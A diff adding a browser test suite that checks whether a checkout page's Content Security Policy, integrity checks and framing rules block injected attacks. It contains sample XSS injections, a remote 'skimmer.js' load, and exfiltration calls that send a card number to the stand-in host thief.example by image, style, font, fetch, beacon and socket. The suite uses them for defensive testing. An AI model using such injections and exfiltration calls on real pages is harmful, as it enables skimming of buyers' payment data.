@@ -1,0 +1,368 @@
+import { cp, mkdtemp, readFile, rm } from 'node:fs/promises'
+import { createServer, type RequestListener } from 'node:http'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import type { Page } from 'playwright-core'
+import { expect, inject, onTestFinished, test } from 'vitest'
+import webSocket from 'ws'
+import { writeNetlifyFiles } from '../../scripts/build/netlify-files.ts'
+import { listen } from '../../scripts/serve/listen.ts'
+import { ada, declinedCard, fillCardForm, payButton } from '../support/browser/buyer.ts'
+import { type CheckoutPage, openCheckout } from '../support/browser/checkout-page.ts'
+
+const thief = 'https://thief.example'
+
+/** What the page does to the world when an attacker has got this far: a script that runs inside it. */
+interface Attack {
+  readonly directive: string
+  /** Runs in the page, with the address of the thief. */
+  readonly run: (thief: string) => unknown
+}
+
+/** Lets the attacks happen, and answers with the directive that stopped each. */
+async function directivesAgainst(
+  checkout: CheckoutPage,
+  attacks: Readonly<Record<string, Attack>>,
+): Promise<Record<string, string>> {
+  const { page } = checkout
+  // The browser says it in its own words too; what counts is the event, which names the directive.
+  checkout.expectConsole('error', /Content Security Policy|^The policy of the page/)
+  const stoppedBy: Record<string, string> = {}
+  for (const [story, attack] of Object.entries(attacks)) {
+    const stopped = page.evaluate(
+      () =>
+        new Promise<string>((resolve) =>
+          addEventListener(
+            'securitypolicyviolation',
+            (event) => resolve(`${event.effectiveDirective} ${event.disposition}`),
+            { once: true },
+          ),
+        ),
+    )
+    await page.evaluate(attack.run, thief).catch(() => {})
+    stoppedBy[story] = await stopped
+  }
+  return stoppedBy
+}
+
+const expected = (attacks: Readonly<Record<string, Attack>>) =>
+  Object.fromEntries(
+    Object.entries(attacks).map(([story, { directive }]) => [story, `${directive} enforce`]),
+  )
+
+const isTaken = (page: Page) => page.evaluate(() => Reflect.has(window, 'taken'))
+
+const intrusions: Readonly<Record<string, Attack>> = {
+  'an inline script': {
+    directive: 'script-src-elem',
+    run: () => {
+      const script = document.createElement('script')
+      script.textContent = 'window.taken = true'
+      document.body.append(script)
+    },
+  },
+  'a handler in an attribute': {
+    directive: 'script-src-attr',
+    run: () => {
+      const box = document.createElement('div')
+      box.innerHTML = '<img src="/favicon.svg" onload="window.taken = true">'
+      document.body.append(box)
+    },
+  },
+  'a javascript: address': {
+    directive: 'script-src-elem',
+    run: () => {
+      const link = Object.assign(document.createElement('a'), {
+        href: 'javascript:void(window.taken = true)',
+      })
+      document.body.append(link)
+      link.click()
+    },
+  },
+  'eval, out of a timer': {
+    directive: 'script-src',
+    run: () => setTimeout('window.taken = true'),
+  },
+  'a script as data': {
+    directive: 'script-src-elem',
+    run: () => {
+      const src = 'data:text/javascript,window.taken=true'
+      document.body.append(Object.assign(document.createElement('script'), { src }))
+    },
+  },
+  'a module of a stranger': {
+    directive: 'script-src-elem',
+    run: (stranger) => {
+      const src = `${stranger}/skimmer.js`
+      document.body.append(Object.assign(document.createElement('script'), { src, type: 'module' }))
+    },
+  },
+  'another base for every address': {
+    directive: 'base-uri',
+    run: (stranger) =>
+      document.head.append(Object.assign(document.createElement('base'), { href: stranger })),
+  },
+  'a frame with somebody else’s form': {
+    directive: 'frame-src',
+    run: (stranger) =>
+      document.body.append(Object.assign(document.createElement('iframe'), { src: stranger })),
+  },
+  'a worker out of a blob': {
+    directive: 'worker-src',
+    run: () => new Worker(URL.createObjectURL(new Blob(['']))),
+  },
+  'a form to a stranger': {
+    directive: 'form-action',
+    run: (stranger) => {
+      const form = Object.assign(document.createElement('form'), { action: stranger })
+      document.body.append(form)
+      form.submit()
+    },
+  },
+}
+
+test('G2: a script, handler or frame that was injected is stopped by the policy', async () => {
+  const checkout = await openCheckout('/card')
+  await checkout.seesTabs()
+  expect(await directivesAgainst(checkout, intrusions)).toEqual(expected(intrusions))
+  expect(await isTaken(checkout.page)).toBe(false)
+})
+
+const leaks: Readonly<Record<string, Attack>> = {
+  'the address of an image': {
+    directive: 'img-src',
+    run: (stranger) => {
+      new Image().src = `${stranger}/?card=4242`
+    },
+  },
+  'a style with an address in it': {
+    directive: 'img-src',
+    run: (stranger) => {
+      document.body.style.backgroundImage = `url(${stranger}/?card=4242)`
+    },
+  },
+  'a style sheet of a stranger': {
+    directive: 'style-src-elem',
+    run: (stranger) => {
+      const href = `${stranger}/?card=4242`
+      document.head.append(
+        Object.assign(document.createElement('link'), { rel: 'stylesheet', href }),
+      )
+    },
+  },
+  'an inline style that could read fields': {
+    directive: 'style-src-elem',
+    run: () => {
+      const style = document.createElement('style')
+      style.textContent = 'input[value^="4"] { color: red }'
+      document.head.append(style)
+    },
+  },
+  'a font': {
+    directive: 'font-src',
+    run: (stranger) => new FontFace('Leak', `url(${stranger}/?card=4242)`).load(),
+  },
+  'a call': {
+    directive: 'connect-src',
+    run: (stranger) => fetch(`${stranger}/?card=4242`),
+  },
+  'a beacon': {
+    directive: 'connect-src',
+    run: (stranger) => navigator.sendBeacon(`${stranger}/`, '4242'),
+  },
+  'a socket': {
+    directive: 'connect-src',
+    run: (stranger) => new WebSocket(stranger.replace('https', 'wss')),
+  },
+  'an event stream': {
+    directive: 'connect-src',
+    run: (stranger) => new EventSource(`${stranger}/?card=4242`),
+  },
+}
+
+test('G4, G5: nothing that is read here leaves by an image, a style, a font or a call to a third origin', async () => {
+  const checkout = await openCheckout('/card')
+  await checkout.seesTabs()
+  expect(await directivesAgainst(checkout, leaks)).toEqual(expected(leaks))
+})
+
+test('G1, G16: another site gets nothing of a page or of its wallet button into a frame', async () => {
+  const { page, origin, expectConsole } = await openCheckout('/')
+  expectConsole('error', "frame-ancestors 'none'")
+  const attacker = await servePage(`<iframe src="${origin}/card"></iframe><p>Win a prize</p>`)
+  await page.route(`${attacker}/**`, (route) => route.continue())
+  const refused = page.waitForEvent('console', (message) => message.text().startsWith('Framing'))
+  await page.goto(attacker)
+  await refused
+  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
+})
+
+/** A site of somebody else. A real one on this machine: browsers keep pages of the web away from it altogether. */
+async function servePage(html: string): Promise<string> {
+  return serve((_request, response) =>
+    response.writeHead(200, { 'content-type': 'text/html' }).end(html),
+  )
+}
+
+/** Answers requests, and takes every socket. */
+async function serve(answer: RequestListener): Promise<string> {
+  const sockets = new webSocket.Server({ noServer: true })
+  const server = createServer(answer).on('upgrade', (request, socket, head) =>
+    sockets.handleUpgrade(request, socket, head, () => {}),
+  )
+  const { origin, close } = await listen(server)
+  onTestFinished(close)
+  return origin
+}
+
+test('a hub on an origin of its own may be asked, over HTTP and over a socket, and nobody beside it', async () => {
+  const answer: RequestListener = (_request, response) =>
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
+  const hub = await serve(answer)
+  const neighbour = await serve(answer)
+  const dist = await mkdtemp(join(tmpdir(), 'till-direct-hub-'))
+  onTestFinished(() => rm(dist, { recursive: true }))
+  await cp(inject('dist'), dist, { recursive: true })
+  await writeNetlifyFiles(dist, {
+    cardFields: 'direct',
+    hubUrl: `${hub}/live`,
+    backendOrigin: undefined,
+  })
+  const { page, expectConsole } = await openCheckout('/', { dist })
+  expectConsole('error', /Content Security Policy|^The policy of the page forbids: connect-src/)
+  await page.route(`${hub}/**`, (route) => route.continue())
+  const ask = (origin: string) =>
+    page.evaluate(async (address) => {
+      const call = fetch(`${address}/live/negotiate`, { method: 'POST' }).then(
+        ({ status }) => status,
+        () => 'refused',
+      )
+      const line = new Promise((resolve) => {
+        const socket = new WebSocket(`${address.replace('http', 'ws')}/live`)
+        socket.onopen = () => resolve('open')
+        socket.onerror = () => resolve('refused')
+      })
+      return Promise.all([call, line])
+    }, origin)
+  expect(await ask(hub)).toEqual([200, 'open'])
+  expect(await ask(neighbour)).toEqual(['refused', 'refused'])
+})
+
+test('G3: a message of any shape from another window changes nothing, for nobody listens', async () => {
+  const { page, seesTabs } = await openCheckout('/card', {
+    beforeLoad: (fresh) =>
+      fresh.addInitScript(() => {
+        const heard: string[] = []
+        Object.assign(window, { heard })
+        const listen = EventTarget.prototype.addEventListener
+        EventTarget.prototype.addEventListener = function (type: string, ...others) {
+          if (type === 'message' && (this === window || this === undefined)) heard.push(type)
+          return listen.call(this, type, ...(others as [EventListener]))
+        }
+      }),
+  })
+  await seesTabs()
+  await page.getByRole('button', { name: 'Pay with Fake Wallet' }).waitFor()
+  const before = await page.locator('body').innerText()
+  await page.evaluate(async () => {
+    const shapes = [null, 'paid', 4, { type: 'success' }, { redirect_url: 'https://thief.example' }]
+    for (const shape of shapes) window.postMessage(shape, '*')
+    await new Promise((later) => setTimeout(later))
+  })
+  expect(await page.locator('body').innerText()).toBe(before)
+  const heard = () => page.evaluate(() => [Reflect.get(window, 'heard'), window.onmessage])
+  expect(await heard()).toEqual([[], null])
+  await page.evaluate(() => addEventListener('message', () => {}))
+  expect(await heard()).toEqual([['message'], null])
+})
+
+test('G12: the page needs no header of the shop’s answers, which the CDN adds none to', async () => {
+  const { page, seesTabs, origin } = await openCheckout('/card')
+  await seesTabs()
+  const names = await page.evaluate(async () => {
+    const answer = await fetch('/api/product/card')
+    return [...answer.headers.keys()]
+  })
+  expect(names).not.toContain('content-security-policy')
+  expect(names).not.toContain('x-content-type-options')
+  expect((await fetch(`${origin}/card`)).headers.get('x-content-type-options')).toBe('nosniff')
+})
+
+test('G13: whoever is asked beside us learns our origin, never the address with the payment intent', async () => {
+  const { page, calls, origin } = await openCheckout(
+    '/card?payment_intent=pi_1&secret=pi_1_secret_2',
+  )
+  await page.getByRole('button', { name: 'Pay with Fake Wallet' }).waitFor()
+  const referrers = calls('GET', 'https://js.stripe.com').map(({ headers }) => headers['referer'])
+  expect(referrers).toEqual([`${origin}/`])
+})
+
+test('G15: the console tells the owner that a payment failed, and nothing of what the buyer typed', async () => {
+  const checkout = await openCheckout('/card')
+  checkout.expectConsole('error', 'status of 402')
+  checkout.expectConsole('error', 'the payment got no good answer')
+  const { page, sees } = checkout
+  const told: Promise<string>[] = []
+  page.on('console', (message) => {
+    const values = Promise.all(message.args().map((value) => value.jsonValue()))
+    told.push(values.then((all) => JSON.stringify([message.text(), ...all])))
+  })
+  await fillCardForm(page, { number: declinedCard })
+  await payButton(page).click()
+  await sees('Your payment was declined. You have not been charged.')
+  const text = (await Promise.all(told)).join()
+  expect(text).toContain('the payment got no good answer')
+  for (const typed of [ada.email, ada.name, ada.postalCode, ada.expiration]) {
+    expect(text).not.toContain(typed)
+  }
+  expect(text.replace(/\D/g, '')).not.toContain(declinedCard.replace(/\D/g, ''))
+})
+
+test('a script that is not the one that was built is not run, and the page says that a part is missing', async () => {
+  const built = await readFile(join(inject('dist'), 'scripts.json'), 'utf8')
+  const main = /\/assets\/main\.\w+\.js/.exec(built)?.[0] ?? ''
+  const checkout = await openCheckout('/card', { beforeLoad: (page) => tamperWith(page, main) })
+  checkout.expectConsole('error', 'integrity')
+  await checkout.sees('A part of this page could not be loaded.')
+  expect(await isTaken(checkout.page)).toBe(false)
+})
+
+test('a part that is loaded later is not run either when it is not what was built', async () => {
+  const built = await readFile(join(inject('dist'), 'scripts.json'), 'utf8')
+  const tab = /\/assets\/card-tab\.\w+\.js/.exec(built)?.[0] ?? ''
+  const checkout = await openCheckout('/card', { beforeLoad: (page) => tamperWith(page, tab) })
+  checkout.expectConsole('error', 'integrity')
+  checkout.expectConsole('error', 'Till: a part of the page could not be loaded')
+  checkout.expectConsole('error', 'drawn anew')
+  const { page } = checkout
+  await checkout.sees('A part of this page could not be loaded.')
+  expect(await isTaken(page)).toBe(false)
+})
+
+/** A CDN, or who has got hold of it, that adds a line to a script. */
+async function tamperWith(page: Page, address: string): Promise<void> {
+  const script = await readFile(join(inject('dist'), address), 'utf8')
+  // With any query: what was lost is asked for again under another address.
+  await page.route(`**${address}*`, (route) =>
+    route.fulfill({
+      contentType: 'application/javascript',
+      body: `window.taken = true;${script}`,
+    }),
+  )
+}
+
+test('an inline script that is not the one that was built is not run: the app does its work without it', async () => {
+  const checkout = await openCheckout('/card', {
+    beforeLoad: (page) =>
+      page.route(/^http:\/\/127[^/]*\/card$/, async (route) => {
+        const response = await route.fetch()
+        const html = await response.text()
+        const body = html.replace('<script>"use strict";', '<script>window.taken = true;')
+        expect(body).not.toBe(html)
+        await route.fulfill({ response, body })
+      }),
+  })
+  checkout.expectConsole('error', /Content Security Policy|^The policy of the page/)
+  await checkout.seesTabs()
+  expect(await isTaken(checkout.page)).toBe(false)
+})
